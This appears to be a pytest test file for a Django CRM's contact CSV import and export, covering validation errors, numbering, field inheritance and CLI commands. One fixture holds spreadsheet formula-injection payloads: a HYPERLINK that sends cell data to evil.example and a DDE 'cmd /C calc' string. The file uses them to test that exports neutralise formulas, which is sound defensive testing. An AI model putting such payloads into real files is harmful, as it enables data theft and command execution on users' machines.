"""Importing and exporting contacts: all or nothing, every bad row reported with its line,
contact_create's defaults and inheritance, set-based writes, and export → import round trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from rapport.cli import main
from rapport.contacts import services
from rapport.contacts.importing import (
    BATCH_SIZE,
    COLUMNS,
    ImportFailed,
    contacts_export,
    contacts_import,
    read_csv_rows,
    spreadsheet_safe,
    unspreadsheet,
)
from rapport.contacts.models import (
    BusinessRelation,
    Contact,
    Country,
    IndustryGroup,
    JobResponsibility,
    Language,
    MailingGroup,
    Salesperson,
    Territory,
)
from rapport.core.errors import DomainError
from rapport.numbering.models import NumberSeriesLine
from rapport.numbering.services import number_series_create, number_series_update
from rapport.setup.selectors import marketing_setup_get
from rapport.setup.services import marketing_setup_update

pytestmark = pytest.mark.django_db


# --- Set-up -----------------------------------------------------------------------------------


@pytest.fixture
def series():
    return number_series_create(
        code="CONT",
        default_nos=True,
        manual_nos=True,
        lines=[{"starting_no": "CT000001", "ending_no": "CT999999"}],
    )


@pytest.fixture
def setup(series):
    """Contact Nos. CONT (manual numbers allowed), defaults SJ / EN / email, and the code
    tables the files use."""
    sven = services.salesperson_create(code="SJ", name="Sven Janssen")
    services.salesperson_create(code="PB", name="Pieter Bakker")
    services.salesperson_create(code="EW", name="Emma Wright")
    english = Language.objects.get(code="EN")  # countries and languages: the migrations' data
    for model, codes in [
        (Territory, ["NORTH", "SOUTH"]),
        (MailingGroup, ["NEWS", "EVENTS", "XMAS"]),
        (IndustryGroup, ["RETAIL", "IT"]),
        (JobResponsibility, ["PURCHASE", "MGMT"]),
        (BusinessRelation, ["CUST", "PROSPECT"]),
    ]:
        for code in codes:
            services.code_table_create(model=model, code=code, description=code.title())
    marketing_setup_update(
        contact_nos=series,
        default_salesperson=sven,
        default_language=english,
        default_correspondence_type="email",
    )
    return marketing_setup_get()


def last_no_used() -> str:
    return NumberSeriesLine.objects.get(series__code="CONT").last_no_used


def write_csv(
    path: Path, rows: list[dict[str, str]], *, columns=COLUMNS, delimiter=",", bom=False
) -> Path:
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(columns), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)
    return path


def import_rows(rows: list[dict[str, str]], **kwargs: Any):
    return contacts_import(rows=rows, **kwargs)


def import_errors(rows: list[dict[str, str]], **kwargs: Any) -> list[tuple[int, str]]:
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=rows, **kwargs)
    return failure.value.errors


COMPANIES, PERSONS = 2000, 8000
CITIES = [("Amsterdam", "1012 AB", "NL", "NORTH"), ("Gent", "9000", "BE", "SOUTH")]


def big_rows() -> list[dict[str, str]]:
    """2,000 companies and 8,000 persons. Companies come first in numbers but persons are
    spread through the file (some before their company). Every 100th person has no number
    (drawn from CONT); persons leave city, country, territory and salesperson blank (taken
    from their company), except every 10th, which gives its own city."""
    companies = []
    for i in range(COMPANIES):
        city, post_code, country, territory = CITIES[i % 2]
        companies.append(
            {
                "no": f"C{i:05d}",
                "type": "company",
                "name": f"Company {i} B.V.",
                "address": f"Keizersgracht {i}",
                "post_code": post_code,
                "city": city,
                "country_code": country,
                "territory_code": territory,
                "phone_no": f"+31 20 555 {i:04d}",
                "email": f"info@company{i}.example",
                "salesperson_code": "PB" if i % 3 else "EW",
                "language_code": "NL",
                "mailing_group_codes": "XMAS" if i % 2 else "",
                "industry_group_codes": "RETAIL|IT" if i % 5 == 0 else "RETAIL",
                "business_relation_codes": "CUST",
            }
        )
    persons = []
    for i in range(PERSONS):
        persons.append(
            {
                "no": "" if i % 100 == 99 else f"P{i:05d}",
                "type": "person",
                "name": f"Person {i} Jansen",
                "company_no": f"C{i % COMPANIES:05d}",
                "city": "Utrecht" if i % 10 == 5 else "",
                "email": f"person{i}@company{i % COMPANIES}.example",
                "job_title": "Buyer",
                "mobile_phone_no": f"+31 6 1234 {i:04d}",
                "mailing_group_codes": "NEWS|EVENTS" if i % 4 == 0 else "NEWS",
                "job_responsibility_codes": "PURCHASE",
                "exclude_from_segment": "yes" if i % 500 == 0 else "",
            }
        )
    # The first 1,000 persons go before the companies: a person may name a company that comes
    # later in the file.
    return persons[:1000] + companies + persons[1000:]


# --- 10,000 rows ------------------------------------------------------------------------------


def test_10000_rows_with_3_bad_rows_import_nothing_and_report_exactly_those(
    setup,
    tmp_path,
):
    services.contact_create(type="company", name="Existing", no="EXIST1")
    before = (Contact.objects.count(), last_no_used())
    rows = big_rows()
    rows[15]["country_code"] = "XX"  # line 17: a person with an unknown country
    rows[5000]["email"] = "not an address"  # line 5002
    rows[9998]["city"] = "Utre\x00cht"  # line 10000: PostgreSQL cannot store NUL
    path = write_csv(tmp_path / "contacts.csv", rows)

    with path.open(encoding="utf-8-sig", newline="") as stream:
        parsed = read_csv_rows(stream)
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=parsed)

    assert failure.value.errors == [
        (17, "country_code: There is no country/region with code 'XX'."),
        (5002, "email: 'not an address' is not a valid e-mail address."),
        (10000, "city: Null characters are not allowed."),
    ]
    assert failure.value.message == "Nothing was imported: 3 of 10000 rows have errors."
    assert isinstance(failure.value, DomainError)
    assert failure.value.details["errors"][0] == {
        "line": 17,
        "message": "country_code: There is no country/region with code 'XX'.",
    }
    assert (Contact.objects.count(), last_no_used()) == before


def test_a_clean_10000_row_file_imports_everything(setup, tmp_path):
    path = write_csv(tmp_path / "contacts.csv", big_rows())
    steps: list[int] = []
    with path.open(encoding="utf-8-sig", newline="") as stream:
        result = contacts_import(rows=read_csv_rows(stream), progress=steps.append)

    assert (result.companies, result.persons, result.total) == (2000, 8000, 10000)
    assert result.numbers_drawn == 80 and not result.dry_run
    assert sum(steps) == 10000 and max(steps) == BATCH_SIZE
    assert Contact.objects.filter(type="company").count() == 2000
    assert Contact.objects.filter(type="person").count() == 8000

    # A person that gave no city, country or salesperson took its company's (inherit flags on).
    person = Contact.objects.select_related("company", "country", "salesperson").get(no="P02003")
    assert person.company.no == "C00003"
    assert (person.city, person.post_code, person.address) == ("Gent", "9000", "Keizersgracht 3")
    assert (person.country.code, person.territory.code) == ("BE", "SOUTH")
    assert person.salesperson.code == "EW" and person.language.code == "NL"
    assert person.phone_no == "+31 20 555 0003"  # communication details inherited
    assert person.correspondence_type == "email"  # Marketing Setup's default
    assert person.mobile_phone_no == "+31 6 1234 2003"
    # ... but its own values beat the company's.
    assert Contact.objects.get(no="P00005").city == "Utrecht"
    # A company that gave no correspondence type got Marketing Setup's.
    assert Contact.objects.get(no="C00000").correspondence_type == "email"

    assert sorted(person.mailing_groups.values_list("code", flat=True)) == ["NEWS"]
    assert sorted(
        Contact.objects.get(no="P00000").mailing_groups.values_list("code", flat=True)
    ) == ["EVENTS", "NEWS"]
    assert MailingGroup.objects.get(code="NEWS").contacts.count() == 8000
    assert MailingGroup.objects.get(code="XMAS").contacts.count() == 1000
    assert IndustryGroup.objects.get(code="IT").contacts.count() == 400
    assert Contact.objects.filter(exclude_from_segment=True).count() == 16
    assert result.links == 8000 + 2000 + 1000 + 2400 + 8000 + 2000

    # Rows without a number drew CONT's numbers, companies first, then persons in file order.
    drawn = Contact.objects.filter(no_series="CONT").order_by("no")
    assert drawn.count() == 80
    assert drawn.first().no == "CT000001" and last_no_used() == "CT000080"
    assert Contact.objects.get(no="CT000001").name == "Person 99 Jansen"
    assert not Contact.objects.filter(no="P00099").exists()
    assert Contact.objects.get(no="P00001").no_series == ""
    # The search column is kept as contact_create keeps it.
    assert person.search_text == services.contact_search_text(person)
    assert person.created_at is not None and person.modified_at is not None


# --- Rules, row by row ------------------------------------------------------------------------


def row(**cells: str) -> dict[str, str]:
    return {"type": "company", "name": "Acme", **cells}


def test_every_problem_of_a_row_is_reported_with_its_column(setup):
    errors = import_errors(
        [
            row(no="A1"),
            row(
                no="A" * 21,
                name="",
                type="",
                post_code="1" * 21,
                country_code="xx",
                salesperson_code="NOBODY",
                correspondence_type="pigeon",
                privacy_blocked="maybe",
                mailing_group_codes="NEWS|nope|NOPE2",
            ),
        ]
    )
    # In the order of the columns.
    assert errors == [
        (3, "no: A number can have at most 20 characters."),
        (3, "type: A contact is a company or a person."),
        (3, "name: This field must have a value."),
        (3, "post_code: Use at most 20 characters."),
        (3, "country_code: There is no country/region with code 'XX'."),
        (3, "correspondence_type: Unknown correspondence type."),
        (3, "salesperson_code: There is no salesperson with code 'NOBODY'."),
        (
            3,
            "privacy_blocked: 'maybe' is not true or false: use true/false, yes/no, 1/0 or a "
            "blank.",
        ),
        (3, "mailing_group_codes: There is no mailing group with code 'NOPE', 'NOPE2'."),
    ]
    assert not Contact.objects.exists()


def test_nul_in_any_cell_is_the_rows_error(setup):
    errors = import_errors(
        [row(no="A1", country_code="N\x00L"), row(no="A2", mailing_group_codes="NEWS\x00")]
    )
    assert errors == [
        (2, "country_code: Null characters are not allowed."),
        (3, "mailing_group_codes: Null characters are not allowed."),
    ]


def test_unknown_and_missing_columns_are_header_errors(setup):
    errors = import_errors([{"type": "company", "name": "Acme", "citty": "Gent", "shoe": "42"}])
    assert errors[0][0] == 1 and errors[0][1].startswith("Unknown column 'citty'. The columns")
    assert errors[1][0] == 1 and "'shoe'" in errors[1][1]
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=[{"type": "company", "city": "Gent"}])
    assert failure.value.errors == [(1, "Column 'name' is missing: every contact needs it.")]
    assert failure.value.message == "Nothing was imported: the header has errors."


def test_header_and_rows_with_errors_are_reported_together(setup):
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=[row(citty="x"), row(country_code="XX"), row()])
    assert [line for line, _reason in failure.value.errors] == [1, 3]
    assert failure.value.message == (
        "Nothing was imported: the header and 1 of 3 rows have errors."
    )


def test_column_names_ignore_case_and_spaces_and_codes_ignore_case(setup):
    result = import_rows(
        [
            {
                " Type ": "Company",
                "NAME": "Acme",
                "No": "a1",
                "Country_Code": "nl",
                "mailing_group_codes": " news | xmas |",
                "privacy_blocked": "TRUE",
            }
        ]
    )
    acme = Contact.objects.get(no="A1")
    assert result.companies == 1 and acme.type == "company" and acme.country.code == "NL"
    assert sorted(acme.mailing_groups.values_list("code", flat=True)) == ["NEWS", "XMAS"]
    assert acme.privacy_blocked


@pytest.mark.parametrize(
    ("word", "value"),
    [
        ("true", True),
        ("Yes", True),
        ("1", True),
        ("false", False),
        ("no", False),
        ("0", False),
        ("", False),
    ],
)
def test_flag_words(setup, word, value):
    import_rows([row(no="A1", exclude_from_segment=word)])
    assert Contact.objects.get(no="A1").exclude_from_segment is value


def test_persons_belong_to_companies_of_the_file_or_the_database(setup):
    existing = services.contact_create(type="company", name="Old", no="OLD", city="Leeds")
    services.contact_create(type="person", name="Old person", no="OLDP", company=existing)
    errors = import_errors(
        [
            row(type="person", name="P1", no="P1", company_no="C2"),  # fine: C2 comes later
            row(no="C2"),
            row(type="person", name="P2", no="P2", company_no="P1"),  # person under person
            row(type="person", name="P3", no="P3", company_no="OLDP"),  # ... in the database
            row(type="person", name="P4", no="P4", company_no="NOWHERE"),
            row(no="C3", company_no="C2"),  # a company under a company
            row(type="person", name="P5", no="P5", company_no="old"),  # fine
        ]
    )
    assert errors == [
        (4, "company_no: P1 is a person; a person can only belong to a company."),
        (5, "company_no: OLDP is a person; a person can only belong to a company."),
        (6, "company_no: There is no contact with no. 'NOWHERE'."),
        (7, "company_no: A company cannot belong to another company."),
    ]
    result = import_rows(
        [
            row(type="person", name="P1", no="P1", company_no="C2"),
            row(no="C2", company_no="C2"),  # a company's company no. is its own (as exported)
            row(type="person", name="P5", no="P5", company_no="old"),
        ]
    )
    assert (result.companies, result.persons) == (1, 2)
    assert Contact.objects.get(no="P1").company.no == "C2"
    assert Contact.objects.get(no="C2").company is None
    p5 = Contact.objects.get(no="P5")
    assert (p5.company, p5.city) == (existing, "Leeds")


def test_numbers_must_be_unique_in_the_file_and_the_database(setup):
    services.contact_create(type="company", name="Old", no="OLD")
    errors = import_errors([row(no="A1"), row(no="old"), row(no="B1"), row(no=" a1 ")])
    assert errors == [
        (3, "no: Contact OLD already exists."),
        (5, "no: Contact A1 is on line 2 of the file already."),
    ]


def test_typed_numbers_obey_manual_nos(setup, series):
    number_series_update(series=series, manual_nos=False)
    errors = import_errors([row(no="A1"), row()])
    assert errors == [
        (
            2,
            "no: You may not type numbers by hand for number series CONT. Leave the number blank "
            "to get the next one, or turn on Manual Nos. in number series CONT.",
        )
    ]
    marketing_setup_update(contact_nos=None)  # no series: any typed number goes
    import_rows([row(no="A1")])
    assert Contact.objects.get(no="A1").no_series == ""


def test_blank_numbers_need_a_contact_series_with_default_nos(setup, series):
    number_series_update(series=series, default_nos=False, manual_nos=True)
    errors = import_errors([row(no="A1"), row(), row()])
    assert errors == [
        (
            line,
            "no: Number series CONT does not assign numbers automatically. Type a number, or "
            "turn on Default Nos. in number series CONT.",
        )
        for line in (3, 4)
    ]
    marketing_setup_update(contact_nos=None)
    errors = import_errors([row()])
    assert errors == [(2, "no: Set up Contact Nos. in Marketing Setup first.")]


def test_a_drawn_number_that_exists_refuses_the_import_and_gives_the_numbers_back(setup):
    services.contact_create(type="company", name="Typed earlier", no="CT000002")
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=[row(), row(no="CT000003"), row(), row()])
    assert failure.value.errors == [
        (
            4,
            "no: Number series CONT gave CT000002, but a contact with that number exists "
            "already. Correct the series' last no. used.",
        ),
        (
            5,
            "no: Number series CONT gave CT000003, but line 3 of the file has that number. "
            "Correct the series' last no. used, or change the number on that line.",
        ),
    ]
    assert Contact.objects.count() == 1 and last_no_used() == ""


def test_a_series_that_runs_out_refuses_the_import(setup, series):
    number_series_update(
        series=series,
        lines=[{"line_no": 10000, "starting_no": "CT000001", "ending_no": "CT000002"}],
    )
    errors = import_errors([row(no="A1"), row(), row(), row()])
    assert len(errors) == 1 and errors[0][0] == 3
    assert errors[0][1].startswith("no: Number series CONT is used up")
    assert not Contact.objects.exists() and last_no_used() == ""


def test_defaults_and_inheritance_are_those_of_contact_create(setup):
    """The same contacts made by the import and by contact_create come out the same."""
    import_rows(
        [
            row(no="C1", city="Gent", country_code="BE", salesperson_code="PB", phone_no="09 1"),
            row(
                type="person", name="G", no="P1", company_no="C1", city="Brugge", language_code="nl"
            ),
            row(type="person", name="T", no="P2", company_no="C1"),
            row(type="person", name="A", no="P3"),
        ]
    )
    belgium = Country.objects.get(code="BE")
    c1 = services.contact_create(
        type="company",
        name="Acme",
        no="XC1",
        city="Gent",
        country=belgium,
        salesperson=Salesperson.objects.get(code="PB"),
        phone_no="09 1",
    )
    made = {
        "C1": c1,
        "P1": services.contact_create(
            type="person",
            name="G",
            no="XP1",
            company=c1,
            city="Brugge",
            language=Language.objects.get(code="NL"),
        ),
        "P2": services.contact_create(type="person", name="T", no="XP2", company=c1),
        "P3": services.contact_create(type="person", name="A", no="XP3"),
    }
    fields = [
        "address",
        "address_2",
        "post_code",
        "city",
        "phone_no",
        "fax_no",
        "country_id",
        "territory_id",
        "salesperson_id",
        "language_id",
        "correspondence_type",
        "exclude_from_segment",
        "privacy_blocked",
    ]
    for no, expected in made.items():
        imported = Contact.objects.get(no=no)
        assert [getattr(imported, name) for name in fields] == [
            getattr(expected, name) for name in fields
        ], no
    assert Contact.objects.get(no="P2").city == "Gent"


def test_inherit_flags_off_means_persons_take_nothing_from_the_company(setup):
    marketing_setup_update(inherit_address=False, inherit_salesperson=False)
    import_rows(
        [
            row(no="C1", city="Gent", country_code="BE", salesperson_code="PB"),
            row(type="person", name="P", no="P1", company_no="C1"),
        ]
    )
    person = Contact.objects.get(no="P1")
    assert person.city == "" and person.country.code == "BE"
    assert person.salesperson.code == "SJ"  # Marketing Setup's default, not the company's


def test_keep_blanks_takes_no_defaults_and_nothing_from_the_company(setup):
    import_rows(
        [
            row(no="C1", city="Gent", salesperson_code="PB"),
            row(type="person", name="P", no="P1", company_no="C1"),
        ],
        keep_blanks=True,
    )
    person = Contact.objects.get(no="P1")
    assert (person.city, person.salesperson, person.language, person.correspondence_type) == (
        "",
        None,
        None,
        "",
    )
    assert Contact.objects.get(no="C1").salesperson.code == "PB"


def test_blank_rows_are_skipped_and_extra_cells_refused(setup, tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_text(
        "no,type,name,city\n"
        "A1,company,Acme,Gent\n"
        "\n"
        ",,,\n"
        'A2,company,"Two\nlines",Gent\n'
        "A3,company,Three,Gent,surplus\n",
        encoding="utf-8",
    )
    with path.open(encoding="utf-8", newline="") as stream:
        rows = read_csv_rows(stream)
    with pytest.raises(ImportFailed) as failure:
        contacts_import(rows=rows)
    # Lines are the file's: the blank line counts, the quoted cell spans lines 5-6.
    assert failure.value.errors == [(7, "The row has more cells than the header has columns.")]
    assert failure.value.message == "Nothing was imported: 1 of 3 rows has errors."


def test_a_duplicate_or_empty_header_is_refused(tmp_path):
    with pytest.raises(ImportFailed) as failure:
        read_csv_rows(io.StringIO("no,type,name,City,city\n"))
    assert failure.value.errors == [(1, "Column 'city' appears twice in the header.")]
    with pytest.raises(ImportFailed) as failure:
        read_csv_rows(io.StringIO("\n\n"))
    assert failure.value.errors == [(1, "The file is empty: its first line must name the columns.")]


def test_dry_run_checks_everything_and_writes_nothing(setup):
    result = import_rows([row(), row(type="person", name="P", no="P1")], dry_run=True)
    assert result.dry_run and (result.companies, result.persons, result.numbers_drawn) == (1, 1, 1)
    assert not Contact.objects.exists() and last_no_used() == ""


# --- Export -----------------------------------------------------------------------------------


def test_export_then_import_into_an_empty_database_round_trips(setup, tmp_path):
    rows = [
        r
        for r in big_rows()
        if int((r["no"] if r["type"] == "company" else r["company_no"])[1:]) < 200
    ]
    assert len(rows) == 1000
    import_rows(rows)
    person = Contact.objects.get(no="P00010")
    services.contact_update(contact=person, salesperson=None, city="")  # blanks on purpose
    services.contact_update(
        contact=Contact.objects.get(no="C00001"), privacy_blocked=True, fax_no="+31 20 1"
    )
    before = list(contacts_export())
    assert before[0]["type"] == "company" and before[-1]["type"] == "person"
    assert [r["type"] for r in before] == sorted(r["type"] for r in before)
    assert before[0] == {
        **dict.fromkeys(COLUMNS, ""),
        "no": "C00000",
        "type": "company",
        "name": "Company 0 B.V.",
        "company_no": "C00000",
        "address": "Keizersgracht 0",
        "post_code": "1012 AB",
        "city": "Amsterdam",
        "country_code": "NL",
        "territory_code": "NORTH",
        "phone_no": "+31 20 555 0000",
        "email": "info@company0.example",
        "language_code": "NL",
        "correspondence_type": "email",
        "salesperson_code": "EW",
        "exclude_from_segment": "false",
        "privacy_blocked": "false",
        "industry_group_codes": "IT|RETAIL",
        "business_relation_codes": "CUST",
    }
    path = tmp_path / "export.csv"
    call_command("export_contacts", "--output", str(path), stderr=io.StringIO())

    Contact.objects.filter(type="person").delete()
    Contact.objects.all().delete()
    out = io.StringIO()
    call_command("import_contacts", str(path), "--keep-blanks", stdout=out)
    assert out.getvalue().startswith(f"Imported {len(before)} contacts (200 companies, ")
    assert list(contacts_export()) == before
    assert Contact.objects.get(no="P00010").salesperson is None

    # Without --keep-blanks the defaults fill what was blank; everything else is the same.
    Contact.objects.filter(type="person").delete()
    Contact.objects.all().delete()
    call_command("import_contacts", str(path), stdout=io.StringIO())
    after = list(contacts_export())
    changed = {
        b["no"]: {key: a[key] for key in COLUMNS if a[key] != b[key]}
        for a, b in zip(after, before, strict=True)
        if a != b
    }
    assert changed == {"P00010": {"city": "Amsterdam", "salesperson_code": "PB"}}  # C00010's


def test_export_command_writes_csv_to_stdout(setup):
    import_rows([row(no="A1", name='Acme, "the" best', mailing_group_codes="XMAS|NEWS")])
    out = io.StringIO()
    call_command("export_contacts", stdout=out)
    lines = out.getvalue().splitlines()
    assert lines[0] == ",".join(COLUMNS)
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert parsed[0]["name"] == 'Acme, "the" best'
    assert parsed[0]["mailing_group_codes"] == "NEWS|XMAS"


def test_export_of_a_queryset(setup):
    import_rows([row(no="A1"), row(no="B1", city="Gent"), row(type="person", name="P", no="C1")])
    rows = list(contacts_export(queryset=Contact.objects.filter(city="Gent")))
    assert [r["no"] for r in rows] == ["B1"]


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address_2": "'=already quoted once",
    "city": "-2+3",
    "phone_no": "+31 30 123 4567",
    "fax_no": "''+31 double",
    "post_code": "'plain",  # an apostrophe before no formula stays as it is
}


def test_export_neutralises_spreadsheet_formulas_and_import_gives_back_the_same_values(
    setup, tmp_path
):
    import_rows([row(no="F1", **FORMULAS)])
    import_rows([row(type="person", no="F2", company_no="F1", name="Pat", job_title="@Home")])
    before = list(contacts_export())
    assert {key: before[0][key] for key in FORMULAS} == FORMULAS
    path = tmp_path / "export.csv"
    call_command("export_contacts", "--output", str(path), stderr=io.StringIO())
    with path.open(encoding="utf-8", newline="") as stream:
        cells = list(csv.DictReader(stream))
    assert {key: cells[0][key] for key in FORMULAS} == {
        "name": "'" + FORMULAS["name"],
        "address": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "address_2": "''=already quoted once",
        "city": "'-2+3",
        "phone_no": "'+31 30 123 4567",
        "fax_no": "'''+31 double",
        "post_code": "'plain",
    }
    assert cells[1]["job_title"] == "'@Home"
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for r in cells for cell in r.values() if cell.startswith(formula_start)]

    Contact.objects.filter(type="person").delete()
    Contact.objects.all().delete()
    call_command("import_contacts", str(path), "--keep-blanks", stdout=io.StringIO())
    assert list(contacts_export()) == before


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'-1", "''-1"),
        ("'", "'"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_round_trip(value, cell):
    assert spreadsheet_safe(value) == cell
    assert unspreadsheet(cell) == value


# --- The commands -----------------------------------------------------------------------------


def test_import_command_reports_every_bad_row_and_exits_non_zero(setup, tmp_path):
    rows = big_rows()
    rows[1]["type"] = "robot"
    rows[4000]["salesperson_code"] = "ZZ"
    rows[9000]["no"] = rows[9001]["no"]
    path = write_csv(tmp_path / "bad.csv", rows)
    err = io.StringIO()
    with pytest.raises(CommandError) as failure:
        call_command("import_contacts", str(path), stdout=io.StringIO(), stderr=err)
    assert str(failure.value) == "Nothing was imported: 3 of 10000 rows have errors."
    assert failure.value.returncode == 1
    assert err.getvalue().splitlines() == [
        "line 3: type: A contact is a company or a person.",
        "line 4002: salesperson_code: There is no salesperson with code 'ZZ'.",
        "line 9003: no: Contact P07001 is on line 9002 of the file already.",
    ]
    assert not Contact.objects.exists() and last_no_used() == ""


def test_import_command_summary_bom_and_delimiter(setup, tmp_path):
    path = write_csv(
        tmp_path / "contacts.csv",
        [row(no="A1"), row(type="person", name="P", company_no="A1")],
        delimiter=";",
        bom=True,
    )
    out = io.StringIO()
    call_command("import_contacts", str(path), "--delimiter", ";", stdout=out)
    assert out.getvalue().startswith("Imported 2 contacts (1 company, 1 person) in ")
    assert out.getvalue().rstrip().endswith(" s.")
    assert Contact.objects.get(no="CT000001").company.no == "A1"


def test_import_command_dry_run_writes_nothing(setup, tmp_path):
    path = write_csv(tmp_path / "contacts.csv", [row(), row(), row(type="person", name="P")])
    out = io.StringIO()
    call_command("import_contacts", str(path), "--dry-run", stdout=out)
    assert out.getvalue().startswith(
        "Dry run: 3 contacts (2 companies, 1 person) would be imported; nothing was written"
    )
    assert not Contact.objects.exists() and last_no_used() == ""


def test_import_command_refuses_missing_and_non_utf8_files(setup, tmp_path):
    with pytest.raises(CommandError, match="There is no file"):
        call_command("import_contacts", str(tmp_path / "missing.csv"))
    path = tmp_path / "latin1.csv"
    path.write_bytes("type,name\ncompany,Caf\xe9\n".encode("latin-1"))
    with pytest.raises(CommandError, match="is not UTF-8 text"):
        call_command("import_contacts", str(path))


# run_from_argv closes the database connection, so this test needs a real transaction.
@pytest.mark.django_db(transaction=True)
def test_rapport_import_contacts_exit_status(setup, tmp_path, capsys):
    good = write_csv(tmp_path / "good.csv", [row(no="A1")])
    bad = write_csv(tmp_path / "bad.csv", [row(no="A2"), row(no="A3", country_code="XX")])
    assert main(["rapport", "import-contacts", str(good)]) == 0
    with pytest.raises(SystemExit) as exit_:
        main(["rapport", "import-contacts", str(bad)])
    assert exit_.value.code == 1
    err = capsys.readouterr().err
    assert "line 3: country_code: There is no country/region with code 'XX'." in err
    assert "Nothing was imported: 1 of 2 rows has errors." in err
    assert list(Contact.objects.values_list("no", flat=True)) == ["A1"]
